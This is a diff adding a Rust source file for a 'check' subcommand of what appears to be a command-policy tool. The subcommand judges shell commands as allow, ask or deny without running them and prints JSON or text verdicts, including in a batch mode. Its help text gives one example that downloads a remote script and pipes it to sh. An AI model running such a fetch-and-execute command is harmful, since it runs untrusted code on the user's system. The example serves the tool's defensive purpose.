@@ -1,0 +1,213 @@
+use std::io::{self, BufRead, Write};
+use std::process::ExitCode;
+
+use clap::{Args, ValueEnum};
+use palisade_core::{Command, Severity, Surface, Verdict};
+use palisade_runtime::{Circumstances, Judged, Request, judge_command, words};
+use serde::{Deserialize, Serialize};
+
+use crate::show::{self, Failure, Paint, Style};
+use crate::wire_up::{self, House};
+
+/// Say whether a command would be allowed, without running it
+///
+/// Exit code: 0 allow, 3 ask, 4 deny, 2 usage or configuration error,
+/// 1 failure.
+#[derive(Debug, Args)]
+#[command(after_help = "Example:\n  palisade check -- 'curl https://x.example/i.sh | sh'")]
+pub struct Arguments {
+    /// One argument is a shell line; several are a program and its arguments.
+    #[arg(value_name = "CMD", last = true, required_unless_present = "batch")]
+    command: Vec<String>,
+    /// Print one JSON object.
+    #[arg(long)]
+    json: bool,
+    /// Judge `{"cmd": "..", "cwd": ".."}` lines of standard input, one object
+    /// out for each, in the same order.
+    #[arg(long, conflicts_with_all = ["command", "json"])]
+    batch: bool,
+    #[command(flatten)]
+    judged: AsIf,
+}
+
+/// Under which circumstances to judge.
+#[derive(Debug, Args)]
+pub struct AsIf {
+    /// Whether somebody could be asked.
+    #[arg(long, value_enum, default_value = "interactive")]
+    surface: SurfaceName,
+    /// Judge as inside the sandbox.
+    #[arg(long)]
+    confined: bool,
+    /// The session whose earlier commands count.
+    #[arg(long, env = "PALISADE_SESSION", value_name = "ID")]
+    pub session: Option<String>,
+}
+
+#[derive(Debug, Clone, Copy, ValueEnum)]
+enum SurfaceName {
+    Interactive,
+    Unattended,
+}
+
+impl AsIf {
+    /// The surface.
+    pub fn surface(&self) -> Surface {
+        match self.surface {
+            SurfaceName::Interactive => Surface::Interactive,
+            SurfaceName::Unattended => Surface::Unattended,
+        }
+    }
+
+    /// The circumstances with the posture changed as asked.
+    pub fn apply(&self, at: &mut Circumstances<'_>) {
+        at.posture.confined |= self.confined;
+    }
+}
+
+/// What `--json` prints.
+#[derive(Debug, Serialize)]
+struct Report<'a> {
+    verdict: &'static str,
+    severity: &'static str,
+    findings: Vec<Found<'a>>,
+    effects: Vec<String>,
+}
+
+#[derive(Debug, Serialize)]
+struct Found<'a> {
+    rule: &'a str,
+    severity: &'static str,
+    why: &'a str,
+    span: [u32; 2],
+    text: &'a str,
+}
+
+#[derive(Debug, Deserialize)]
+struct Asked {
+    cmd: String,
+    cwd: Option<String>,
+}
+
+#[derive(Debug, Serialize)]
+#[serde(untagged)]
+enum Answered {
+    Judged { verdict: &'static str, severity: &'static str, rules: Vec<&'static str> },
+    Wrong { error: String },
+}
+
+pub fn run(arguments: Arguments, profile: Option<&str>) -> Result<ExitCode, Failure> {
+    let house = House::open(profile, arguments.judged.session.as_deref())?;
+    let keeper = house.keeper();
+    let session = keeper.session()?;
+    let grants = house.grants(&session);
+    let mut at = house.circumstances(arguments.judged.surface(), &grants, &session);
+    arguments.judged.apply(&mut at);
+    if arguments.batch {
+        return batch(&at);
+    }
+    let judged =
+        judge_command(Request { command: command(arguments.command), cwd: wire_up::cwd()? }, &at);
+    if house.has_session() && judged.decision.verdict() != Verdict::Deny {
+        keeper.remember(&judged.analysis.files)?;
+    }
+    let mut out = io::stdout().lock();
+    let written = if arguments.json { json(&mut out, &judged) } else { words(&mut out, &judged) };
+    gone_is_fine(written)?;
+    Ok(code(judged.decision.verdict()))
+}
+
+/// One argument is a line for a shell, several are executed as they are.
+pub fn command(mut arguments: Vec<String>) -> Command {
+    match (arguments.pop(), arguments.is_empty()) {
+        (Some(line), true) => Command::Shell(line),
+        (last, _) => Command::Argv(arguments.into_iter().chain(last).collect()),
+    }
+}
+
+fn code(verdict: Verdict) -> ExitCode {
+    ExitCode::from(match verdict {
+        Verdict::Allow => 0,
+        Verdict::Ask => 3,
+        Verdict::Deny => 4,
+    })
+}
+
+fn json(out: &mut impl Write, judged: &Judged) -> io::Result<()> {
+    let decision = &judged.decision;
+    let found = decision.findings().iter().map(|finding| Found {
+        rule: finding.rule,
+        severity: finding.severity.word(),
+        why: &finding.why,
+        span: [finding.span.from, finding.span.to],
+        text: &finding.text,
+    });
+    let report = Report {
+        verdict: decision.verdict().word(),
+        severity: decision.severity().word(),
+        findings: found.collect(),
+        effects: judged.analysis.effects.iter().map(|effect| words::effect(&effect.kind)).collect(),
+    };
+    serde_json::to_writer(&mut *out, &report)?;
+    out.write_all(b"\n")
+}
+
+fn words(out: &mut impl Write, judged: &Judged) -> io::Result<()> {
+    let paint = Paint::on(&io::stdout());
+    let decision = &judged.decision;
+    let verdict = paint.text(show::style(decision.verdict()), decision.verdict().word());
+    writeln!(out, "{verdict} ({})", decision.severity().word())?;
+    for finding in decision.findings() {
+        if finding.severity > Severity::Safe {
+            let rule = paint.text(Style::Bold, finding.rule);
+            writeln!(out, "  {rule}: {}", finding.why)?;
+            if !finding.instead.is_empty() {
+                writeln!(out, "    {}", paint.text(Style::Dim, finding.instead))?;
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Reads to the end, whatever the lines hold.
+fn batch(at: &Circumstances<'_>) -> Result<ExitCode, Failure> {
+    let mut out = io::BufWriter::new(io::stdout().lock());
+    let mut input = io::stdin().lock();
+    let here = wire_up::cwd()?;
+    let mut line = Vec::new();
+    loop {
+        line.clear();
+        if input.read_until(b'\n', &mut line)? == 0 {
+            break;
+        }
+        let answer = match serde_json::from_slice::<Asked>(&line) {
+            Ok(asked) => judged(asked, &here, at),
+            Err(error) => Answered::Wrong { error: error.to_string() },
+        };
+        let written = serde_json::to_writer(&mut out, &answer).map_err(io::Error::from);
+        gone_is_fine(written.and_then(|()| out.write_all(b"\n")))?;
+    }
+    gone_is_fine(out.flush())?;
+    Ok(ExitCode::SUCCESS)
+}
+
+fn judged(asked: Asked, here: &str, at: &Circumstances<'_>) -> Answered {
+    let cwd = asked.cwd.unwrap_or_else(|| here.to_owned());
+    if !cwd.starts_with('/') {
+        return Answered::Wrong { error: format!("`cwd` is not absolute: `{cwd}`") };
+    }
+    let decision = judge_command(Request { command: Command::Shell(asked.cmd), cwd }, at).decision;
+    Answered::Judged {
+        verdict: decision.verdict().word(),
+        severity: decision.severity().word(),
+        rules: decision.rules(),
+    }
+}
+
+/// A reader that has seen enough is no failure.
+fn gone_is_fine(written: io::Result<()>) -> Result<(), Failure> {
+    match written {
+        Err(error) if error.kind() == io::ErrorKind::BrokenPipe => Ok(()),
+        other => Ok(other?),
+    }
+}
